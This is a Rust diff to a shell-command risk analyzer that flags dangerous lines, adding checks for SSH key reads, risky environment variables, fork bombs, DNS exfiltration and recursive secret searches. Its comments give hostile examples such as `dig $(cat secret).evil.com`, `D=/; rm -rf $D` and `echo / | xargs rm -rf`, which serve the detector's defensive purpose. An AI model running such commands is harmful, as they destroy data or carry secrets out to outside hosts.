@@ -61,6 +61,7 @@ pub struct Node {
     runs: Option<Runs>,
     skip: usize,
     command_options: Vec<String>,
+    stdin_args: bool,
     no_run_options: Vec<String>,
     safe_alone: Vec<String>,
     other: Option<Vec<Effect>>,
@@ -207,13 +208,23 @@ impl Knowledge {
             PathClass::NetworkDevice => 2,
             PathClass::System => 3,
         };
-        self.path_set
+        let listed = self
+            .path_set
             .as_ref()?
             .matches(path)
             .into_iter()
             .filter_map(|i| self.paths.get(i))
             .min_by_key(|p| rank(&p.class))
-            .map(|p| (&p.class, p.what.as_str()))
+            .map(|p| (&p.class, p.what.as_str()));
+        // Everything in an `.ssh` directory but its public files is key
+        // material, whatever the key file is called (`~/.ssh/github`).
+        const SECRET: PathClass = PathClass::Secret;
+        let in_ssh = path.contains("/.ssh/") || path.starts_with(".ssh/");
+        let public = matches!(
+            basename(path),
+            "known_hosts" | "known_hosts.old" | "authorized_keys" | "authorized_keys2" | "config"
+        ) || path.ends_with(".pub");
+        listed.or((in_ssh && !public).then_some((&SECRET, "SSH key material")))
     }
 }
 
@@ -272,6 +283,7 @@ fn compile_node(spec: NodeSpec, place: &str, errors: &mut Vec<KnowledgeError>) -
         runs: spec.runs,
         skip: spec.skip,
         command_options: spec.command_options,
+        stdin_args: spec.stdin_args,
         no_run_options: spec.no_run_options,
         safe_alone: spec.safe_alone,
         other: spec.other,
@@ -393,6 +405,9 @@ pub struct Command {
     /// The working directories it may run in; `None` for one only known at
     /// run time.
     pub cwds: Vec<Option<String>>,
+    /// Literal values the line gives shell variables before this command
+    /// (`D=/; rm -rf $D`), for guardrails to try.
+    pub vars: Vec<(String, String)>,
     /// What it can do.
     pub findings: Vec<Finding>,
 }
@@ -449,6 +464,7 @@ pub fn analyze(line: &str, kb: &Knowledge, ctx: &LineContext) -> Result<Analysis
         kb,
         out: Analysis::default(),
         cwds: vec![ctx.cwd.clone()],
+        vars: Vec::new(),
     };
     let script = shell::parse(line, "the command line", 0)?;
     a.script(&script, &Via::default(), 0)?;
@@ -491,6 +507,9 @@ struct Analyzer<'k> {
     kb: &'k Knowledge,
     out: Analysis,
     cwds: Vec<Option<String>>,
+    /// Literal values shell variables are given on the line, in order; a
+    /// name may have several (`for d in / /etc`).
+    vars: Vec<(String, String)>,
 }
 
 /// Programs whose standard output, when literal, is known text: what they
@@ -626,6 +645,60 @@ const DANGEROUS_VARS: &[(&str, &str)] = &[
         "sets KUBECONFIG, pointing kubectl at another cluster",
     ),
     ("BROWSER", "sets BROWSER, a program other tools run"),
+    (
+        "GIT_EXTERNAL_DIFF",
+        "sets GIT_EXTERNAL_DIFF, a program git runs",
+    ),
+    (
+        "GIT_PROXY_COMMAND",
+        "sets GIT_PROXY_COMMAND, a command git runs",
+    ),
+    (
+        "HOME",
+        "sets HOME, so programs read their configuration (which can run programs) from elsewhere",
+    ),
+    (
+        "XDG_CONFIG_HOME",
+        "sets XDG_CONFIG_HOME, so programs read their configuration from elsewhere",
+    ),
+    (
+        "CURL_HOME",
+        "sets CURL_HOME, so curl reads its configuration from elsewhere",
+    ),
+    ("WGETRC", "sets WGETRC, a configuration file wget obeys"),
+    ("GNUPGHOME", "sets GNUPGHOME, so gpg trusts other keys"),
+    (
+        "http_proxy",
+        "sets http_proxy, sending web traffic through another host",
+    ),
+    (
+        "https_proxy",
+        "sets https_proxy, sending web traffic through another host",
+    ),
+    (
+        "HTTP_PROXY",
+        "sets HTTP_PROXY, sending web traffic through another host",
+    ),
+    (
+        "HTTPS_PROXY",
+        "sets HTTPS_PROXY, sending web traffic through another host",
+    ),
+    (
+        "ALL_PROXY",
+        "sets ALL_PROXY, sending traffic through another host",
+    ),
+    (
+        "all_proxy",
+        "sets all_proxy, sending traffic through another host",
+    ),
+    (
+        "SSL_CERT_FILE",
+        "sets SSL_CERT_FILE, changing which servers are trusted",
+    ),
+    (
+        "CURL_CA_BUNDLE",
+        "sets CURL_CA_BUNDLE, changing which servers are trusted",
+    ),
 ];
 
 /// Names that shells treat as the shell itself when given as an argument.
@@ -649,8 +722,20 @@ impl Analyzer<'_> {
                 inv.context.contains(&Context::Background) || matches!(inv.stdin, Stdin::Pipe(_))
             }) || calls.len() >= 2;
             if spawns {
-                self.out.fork_bombs.push(f.name.clone());
+                self.out.fork_bombs.push(format!(
+                    "the function `{}` that starts copies of itself",
+                    f.name
+                ));
             }
+        }
+        // `while :; do bash & done` starts processes without end.
+        if script.invocations.iter().any(|inv| {
+            inv.context.contains(&Context::EndlessLoop)
+                && inv.context.contains(&Context::Background)
+        }) {
+            self.out
+                .fork_bombs
+                .push("an endless loop that starts background jobs".into());
         }
         self.out.opaque.extend(script.opaque.iter().cloned());
         for inv in &script.invocations {
@@ -661,6 +746,7 @@ impl Analyzer<'_> {
                     Context::ProcessSubstitution => v.labels.push("<(…)".into()),
                     Context::Function(name) => v.labels.push(format!("function {name}")),
                     Context::Background => v.labels.push("background &".into()),
+                    Context::EndlessLoop => v.labels.push("endless loop".into()),
                 }
             }
             self.invocation(inv, script, &v, depth)?;
@@ -735,6 +821,9 @@ impl Analyzer<'_> {
         }
         for r in &redirects {
             self.redirect(r, &mut findings);
+        }
+        if words.is_empty() {
+            self.remember(&assignments);
         }
         let Some((first, args)) = words.split_first() else {
             self.push(
@@ -845,6 +934,9 @@ impl Analyzer<'_> {
                 self.scan_args(&args, Some(&name), &mut findings);
             }
         }
+        if let Some(k) = &known {
+            self.exfiltration(k, &name, &args, &mut findings);
+        }
         if !system {
             findings.push(Finding {
                 effect: Effect::Unknown,
@@ -953,11 +1045,21 @@ impl Analyzer<'_> {
                     .find(|a| !a.text.starts_with('-') || a.text == "-");
                 let next: Vec<Option<String>> = match target {
                     None => vec![Some("~".into())],
-                    Some(t) if t.literal && t.text != "-" => self
-                        .cwds
-                        .iter()
-                        .map(|c| resolve(c.as_deref(), &t.text))
-                        .collect(),
+                    Some(t) if t.literal && t.text != "-" => {
+                        let mut next: Vec<Option<String>> = self
+                            .cwds
+                            .iter()
+                            .map(|c| resolve(c.as_deref(), &t.text))
+                            .collect();
+                        // Enough `..` from a directory only known at run
+                        // time can reach `/`.
+                        if self.cwds.contains(&None)
+                            && t.text.split('/').all(|s| matches!(s, ".." | "." | ""))
+                        {
+                            next.push(Some("/".into()));
+                        }
+                        next
+                    }
                     Some(_) => vec![None],
                 };
                 for n in next {
@@ -969,13 +1071,15 @@ impl Analyzer<'_> {
             "export" | "declare" | "typeset" | "local" | "readonly" => {
                 for a in args.iter().filter(|a| a.text.contains('=')) {
                     if let Some((n, v)) = a.text.split_once('=') {
-                        self.assignment(
-                            &Assignment {
-                                name: n.trim_end_matches('+').to_owned(),
-                                value: Word::literal(v),
+                        let assignment = Assignment {
+                            name: n.trim_end_matches('+').to_owned(),
+                            value: Word {
+                                literal: a.literal,
+                                ..Word::literal(v)
                             },
-                            findings,
-                        );
+                        };
+                        self.assignment(&assignment, findings);
+                        self.remember(std::slice::from_ref(&assignment));
                     }
                 }
             }
@@ -1018,8 +1122,15 @@ impl Analyzer<'_> {
             via: via.labels.clone(),
             privileged: via.privileged,
             cwds: self.cwds.clone(),
+            vars: self.vars.clone(),
             findings,
         });
+    }
+
+    fn remember(&mut self, assignments: &[Assignment]) {
+        for a in assignments.iter().filter(|a| a.value.literal) {
+            self.vars.push((a.name.clone(), a.value.text.clone()));
+        }
     }
 
     fn assignment(&self, a: &Assignment, findings: &mut Vec<Finding>) {
@@ -1094,13 +1205,94 @@ impl Analyzer<'_> {
         );
     }
 
+    /// Ways a known program can carry data out or read secrets wholesale
+    /// that its flags alone do not show.
+    fn exfiltration(
+        &self,
+        program: &Program,
+        name: &str,
+        args: &[Word],
+        findings: &mut Vec<Finding>,
+    ) {
+        // `dig $(cat secret).evil.com`: a name built at run time can carry
+        // anything to whoever answers for that domain.
+        if (program.family == "network"
+            || matches!(name, "getent" | "resolvectl" | "systemd-resolve"))
+            && let Some(a) = args
+                .iter()
+                .find(|a| !a.literal && !a.skeleton.starts_with('-'))
+        {
+            findings.push(Finding {
+                    effect: Effect::Network,
+                    why: format!(
+                        "`{name}` sends `{}`, only known at run time, over the network; it can carry secrets out",
+                        truncate(&a.raw, 40)
+                    ),
+                    risk: 70,
+                    attended: true,
+                });
+        }
+        // `grep -r . /root`, `rg password /`: searching a whole tree that
+        // holds secrets reads them.
+        let recursive = matches!(name, "rg" | "ag" | "ack" | "ugrep")
+            || (matches!(name, "grep" | "egrep" | "fgrep" | "zgrep")
+                && args.iter().any(|a| {
+                    a.text == "--recursive"
+                        || a.text == "--dereference-recursive"
+                        || (a.text.starts_with('-')
+                            && !a.text.starts_with("--")
+                            && a.text[1..].contains(['r', 'R']))
+                }));
+        if recursive {
+            for a in args.iter().filter(|a| !a.text.starts_with('-')) {
+                if let Some(what) = secret_tree(&normalize_path(&a.text)) {
+                    findings.push(Finding {
+                        effect: Effect::Read,
+                        why: format!(
+                            "`{name}` searches every file under `{}`, {what}",
+                            truncate(&a.text, 40)
+                        ),
+                        risk: 70,
+                        attended: true,
+                    });
+                }
+            }
+        }
+    }
+
     /// Path-class findings for every argument of a known program.
     fn scan_paths(&self, args: &[Word], findings: &mut Vec<Finding>, how: PathUse) {
         for a in args {
-            // `--file=/etc/shadow`, `if=/dev/sda`: look at the value too.
-            self.scan_path(&a.text, findings, how);
-            if let Some((_, v)) = a.text.split_once('=') {
-                self.scan_path(v, findings, how);
+            // `--file=/etc/shadow`, `if=/dev/sda`, `HEAD:secrets.yaml`,
+            // `host:~/.ssh/id_rsa`: look at the value too.
+            for candidate in expand_braces(&a.text) {
+                self.scan_path(&candidate, findings, how);
+                for sep in ['=', ':'] {
+                    if let Some((_, v)) = candidate.split_once(sep) {
+                        self.scan_path(v, findings, how);
+                    }
+                }
+            }
+            if a.pattern && !how.changes {
+                // `cd ~/.ssh && cat *`: a relative glob reads where `cd` led.
+                let relative = !a.text.starts_with('/') && !a.text.starts_with('~');
+                let resolved = self
+                    .cwds
+                    .iter()
+                    .flatten()
+                    .filter(|_| relative)
+                    .map(|cwd| format!("{cwd}/{}", a.text));
+                if let Some(what) = std::iter::once(a.text.clone())
+                    .chain(resolved)
+                    .find_map(|t| secret_glob(&t))
+                {
+                    findings.push(Finding {
+                        effect: Effect::Read,
+                        why: format!("reads files matching `{}`, {what}", truncate(&a.text, 40)),
+                        risk: 70,
+                        attended: true,
+                    });
+                }
             }
         }
     }
@@ -1119,6 +1311,17 @@ impl Analyzer<'_> {
                     truncate(path, 60)
                 ),
                 risk: 75,
+                attended: true,
+            });
+        }
+        if writes && path.contains("authorized_keys") {
+            findings.push(Finding {
+                effect: Effect::Privilege,
+                why: format!(
+                    "changes `{}`, which decides who may log in over SSH",
+                    truncate(path, 60)
+                ),
+                risk: 80,
                 attended: true,
             });
         }
@@ -1310,6 +1513,13 @@ impl Walk<'_> {
         let mut i = 0;
         let mut options_done = false;
         let mut shell_command_mode = false;
+        let shell_stdin = node.runs == Some(Runs::Shell)
+            && args.iter().any(|a| {
+                a.literal
+                    && a.text.starts_with('-')
+                    && !a.text.starts_with("--")
+                    && a.text[1..].contains('s')
+            });
         let mut no_run = false;
         let mut positional_count = 0;
         let mut script_file: Option<&Word> = None;
@@ -1321,6 +1531,12 @@ impl Walk<'_> {
                 options_done = true;
                 i += 1;
                 continue;
+            }
+            if !options_done && !a.literal && (a.skeleton.is_empty() || a.skeleton.starts_with('-'))
+            {
+                // `X=-delete; find / $X`: a word only known at run time may
+                // turn out to be any option, including the dangerous ones.
+                self.dynamic_option(node, a, label);
             }
             if !options_done && t.starts_with('-') && t.len() > 1 {
                 i += self.option(
@@ -1358,7 +1574,11 @@ impl Walk<'_> {
                         self.effects_of(node, label);
                         return;
                     }
-                    script_file = Some(a);
+                    // `bash -s ARGS` and `bash /dev/stdin` read the script
+                    // from standard input; the words are its arguments.
+                    if !shell_stdin && !matches!(t, "/dev/stdin" | "-") {
+                        script_file = Some(a);
+                    }
                     break;
                 }
                 Some(Runs::Interpreter) if !no_run => {
@@ -1541,6 +1761,18 @@ impl Walk<'_> {
                     });
                 }
             }
+            // `echo / | xargs rm -rf`: what xargs reads becomes arguments.
+            _ if node.stdin_args && matches!(self.stdin, StdinSource::Text(..)) => {
+                let mut argv = rest.to_vec();
+                if let StdinSource::Text(w, _) = self.stdin {
+                    argv.extend(w.text.split_whitespace().map(Word::literal));
+                }
+                self.inners.push(Inner::Argv {
+                    argv,
+                    label: label.to_owned(),
+                    privileged,
+                });
+            }
             _ => self.inners.push(Inner::Argv {
                 argv: rest.to_vec(),
                 label: label.to_owned(),
@@ -1608,6 +1840,7 @@ impl Walk<'_> {
         }
         if node.command_options.iter().any(|o| o == t) {
             *shell_command_mode = true;
+            *inline_code |= node.runs == Some(Runs::Interpreter);
             return 1;
         }
         // `-rf`, `-uroot`, `-xc`: single-dash clusters of short options.
@@ -1711,9 +1944,41 @@ impl Walk<'_> {
         }
     }
 
+    fn dynamic_option(&mut self, node: &Node, a: &Word, label: &str) {
+        let risky = node
+            .flags
+            .iter()
+            .find(|f| f.runs.is_some() || f.effects.iter().any(|e| *e != Effect::Read));
+        if let Some(flag) = risky {
+            let example = flag.names.first().map(String::as_str).unwrap_or("");
+            self.findings.push(Finding {
+                effect: Effect::Unknown,
+                why: format!(
+                    "`{label}` is given `{}`, only known at run time, which could be any of its options (such as `{example}`)",
+                    truncate(&a.raw, 40)
+                ),
+                risk: 65,
+                attended: true,
+            });
+        }
+    }
+
     fn args(&mut self, node: &Node, args: &[Word], label: &str) {
         if node.args.is_empty() {
             return;
+        }
+        // The patterns look for dangerous scripts (`sed 'e id'`, `awk
+        // 'system(…)'`); a script only known at run time cannot be checked.
+        if let Some(a) = args.iter().find(|a| !a.literal) {
+            self.findings.push(Finding {
+                effect: Effect::Exec,
+                why: format!(
+                    "`{label}` is given `{}`, only known at run time, so its script cannot be checked",
+                    truncate(&a.raw, 40)
+                ),
+                risk: 70,
+                attended: true,
+            });
         }
         let joined = args
             .iter()
@@ -1757,6 +2022,13 @@ fn effects_change(findings: &[Finding]) -> bool {
 /// The text an `echo` or `printf` with literal arguments prints.
 fn echoed_text(inv: &Invocation) -> Option<String> {
     let (first, args) = inv.words.split_first()?;
+    if first.literal && basename(&first.text) == "cat" && args.is_empty() {
+        // `cat <<EOF | sh`: cat passes its here-document through.
+        return match &inv.stdin {
+            Stdin::Text(w) if w.literal => Some(w.text.clone()),
+            _ => None,
+        };
+    }
     if !first.literal
         || !ECHOERS.contains(&basename(&first.text))
         || !args.iter().all(|a| a.literal)
@@ -1784,6 +2056,95 @@ fn echoed_text(inv: &Invocation) -> Option<String> {
         });
     }
     Some(parts.join(" "))
+}
+
+/// Directories whose whole contents include secrets.
+fn secret_tree(path: &str) -> Option<&'static str> {
+    const TREES: &[&str] = &["/", "/root", "/etc", "/home", "~"];
+    const SUBTREES: &[&str] = &[
+        "/etc/ssh",
+        "/etc/ssl/private",
+        "/etc/letsencrypt",
+        "/etc/kubernetes",
+        "/var/backups",
+        "/run/secrets",
+        "/proc",
+    ];
+    const HIDDEN: &[&str] = &[
+        "/.ssh",
+        "/.aws",
+        "/.kube",
+        "/.gnupg",
+        "/.docker",
+        "/.config",
+        "/.password-store",
+    ];
+    let p = path.trim_end_matches('/');
+    let p = if p.is_empty() { "/" } else { p };
+    if TREES.contains(&p)
+        || SUBTREES
+            .iter()
+            .any(|t| p == *t || p.starts_with(&format!("{t}/")))
+        || HIDDEN.iter().any(|h| p.contains(h))
+        || p.starts_with(".ssh")
+    {
+        Some("secrets included")
+    } else {
+        None
+    }
+}
+
+/// A glob that can match secrets: one in a directory that holds them, or
+/// one over hidden files (`.e*` matches `.env`).
+fn secret_glob(text: &str) -> Option<&'static str> {
+    let first_glob = text.find(['*', '?', '[', '{']).unwrap_or(text.len());
+    let prefix = &text[..first_glob];
+    let (dir, stem) = match prefix.rfind('/') {
+        Some(i) => (&prefix[..i], &prefix[i + 1..]),
+        None => ("", prefix),
+    };
+    if stem.starts_with('.') {
+        return Some("which can include hidden files such as `.env` or keys");
+    }
+    secret_tree(&normalize_path(if dir.is_empty() { "." } else { dir }))
+        .filter(|_| !dir.is_empty() || text.starts_with('/'))
+        .map(|_| "which can include secrets")
+}
+
+/// Expands `{a,b}` brace lists (not nested, at most 64 results) the way the
+/// shell would; other words come back as they are.
+pub fn expand_braces(text: &str) -> Vec<String> {
+    let mut out = vec![String::new()];
+    let mut rest = text;
+    while let Some(open) = rest.find('{') {
+        let Some(close) = rest[open..].find('}').map(|c| open + c) else {
+            break;
+        };
+        let inner = &rest[open + 1..close];
+        if !inner.contains(',') {
+            for o in &mut out {
+                o.push_str(&rest[..=close]);
+            }
+            rest = &rest[close + 1..];
+            continue;
+        }
+        let head = &rest[..open];
+        let mut next = Vec::new();
+        for o in &out {
+            for alt in inner.split(',') {
+                if next.len() >= 64 {
+                    break;
+                }
+                next.push(format!("{o}{head}{alt}"));
+            }
+        }
+        out = next;
+        rest = &rest[close + 1..];
+    }
+    for o in &mut out {
+        o.push_str(rest);
+    }
+    out
 }
 
 /// `NAME=value` as an argument word.
